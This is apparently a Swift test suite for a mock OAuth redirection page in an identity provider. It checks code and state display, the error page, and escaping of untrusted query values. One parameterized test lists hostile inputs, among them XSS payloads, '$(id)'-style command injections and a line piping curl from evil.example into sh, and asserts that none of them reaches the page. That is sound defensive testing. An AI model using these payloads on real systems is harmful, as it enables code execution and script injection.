import Encodings
import HTTP
import Nodes
import Testing

@testable import IdentityProvider

struct MockRedirectionEndpointTests {
  @Test func `the page shows code and state and how to redeem the code`() async throws {
    let bench = try AuthorizationBench()
    let login = try await bench.openLogin("response_type=code&client_id=lax&state=a%26b")
    let location = try #require(try await bench.decide(login).response.headers["Location"])
    let target = location.split(separator: "?", maxSplits: 1)
    #expect(target[0] == "http://localhost:8080/api/mock/redirection/lax")
    let page = try await bench.send("GET", "/api/mock/redirection/lax", query: String(target[1])).response
    let code = try #require(try FormParameters(parsing: Array(target[1].utf8))["code"])
    #expect(page.status == 200)
    #expect(page.headers["Referrer-Policy"] == "no-referrer")
    #expect(page.text.contains("<code>\(code)</code>"))
    #expect(page.text.contains("<code>a&amp;b</code>"))
    #expect(page.text.contains("<pre tabindex=\"0\"><code>curl -s"))
    #expect(page.text.contains("-d client_id=lax"))
    #expect(page.text.contains("-d code=\(code)</code></pre>"))
    #expect(!page.text.contains("redirect_uri"))
  }

  @Test func `an error is shown as one`() async throws {
    let page = try await show("error=access_denied&error_description=The+user+denied+it.&state=1")
    #expect(page.text.contains("The authorization was refused"))
    #expect(page.text.contains("<code>The user denied it.</code>"))
    #expect(!page.text.contains("<pre"))
  }

  @Test(arguments: [
    "<script>alert(1)</script>", "\"'><img src=x onerror=alert(1)>", "<\u{338}script>", "{{title}}",
    "</code></pre>",
    "'; curl evil.example | sh; '", "$(id)", "`id`", "x\nid\n", "\u{1B}[201~id\r", "a&client_id=evil",
  ])
  func `whoever writes the link can write neither markup nor a command`(hostile: String) async throws {
    let value = PercentEncoding.encode(hostile)
    for name in ["code", "state", "error", "error_description", "iss", "redirect_uri", "\(value)"] {
      let page = try await show("\(name)=\(value)")
      #expect(page.status == 200)
      #expect(!page.text.contains("<pre"))
      #expect(!page.text.contains("<script"))
      #expect(!page.text.contains("<img"))
      #expect(!page.text.utf8.contains(0x1B))
    }
  }

  @Test func `a code from elsewhere gets no command line`() async throws {
    let page = try await show("code=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA")
    #expect(page.text.contains("has not issued this code lately"))
  }

  @Test func `a malformed query is refused`() async throws {
    #expect(try await show("code=%").status == 400)
  }

  private func show(_ query: String) async throws -> HTTPResponse {
    try await AuthorizationBench().send("GET", "/api/mock/redirection/x", query: query).response
  }
}
